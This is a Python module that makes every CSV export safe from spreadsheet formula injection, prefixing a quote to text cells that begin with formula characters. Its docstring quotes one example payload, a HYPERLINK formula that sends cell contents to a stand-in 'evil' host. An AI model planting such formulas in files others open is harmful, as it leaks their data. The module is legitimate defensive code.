"""The one CSV writer of every CSV download (exports and reports): cells a spreadsheet would run are
neutralised.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``@SUM(…)`` in an item
id, a pseudonym, a pool or option name would run when a researcher opens the file (OWASP, "CSV
Injection"). Such a text cell is written with a leading ``'`` — the quote prefix that spreadsheets
treat as "this is text" — unless it is a plain number such as ``-1.5`` or ``+3e-2``, which cannot be a
formula and must stay a number. Numbers, booleans and empty cells are written as the csv module writes
them. Neutralising is idempotent: a cell that already starts with ``'`` is left alone.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def csv_cell(value: Any) -> Any:
    """``value`` as it may be written to a CSV cell: text that would run as a formula gets a leading ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


class SafeCsvWriter:
    """``csv.writer`` whose every row is neutralised cell by cell (``csv_cell``)."""

    def __init__(self, fileobj: Any, **fmtparams: Any) -> None:
        self._writer = csv.writer(fileobj, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([csv_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(fileobj: Any, **fmtparams: Any) -> SafeCsvWriter:
    return SafeCsvWriter(fileobj, **fmtparams)
